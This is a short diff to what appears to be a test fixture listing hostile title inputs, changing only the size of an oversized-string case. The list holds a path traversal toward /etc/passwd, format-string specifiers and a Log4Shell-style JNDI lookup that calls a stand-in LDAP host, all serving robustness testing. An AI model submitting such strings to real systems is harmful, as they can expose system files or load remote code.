@@ -33,7 +33,7 @@ TITLES = {
     "path": ("../../../../etc/passwd in a title", ""),
     "format": ("%s %n %(name)s {0} {name} in a title", ""),
     "log4j": ("${jndi:ldap://a.example/x} in a title", ""),
-    "long": ("long " * 100_000 + "title", "no title"),
+    "long": ("long " * 20_000 + "title", "no title"),
 }
 
 
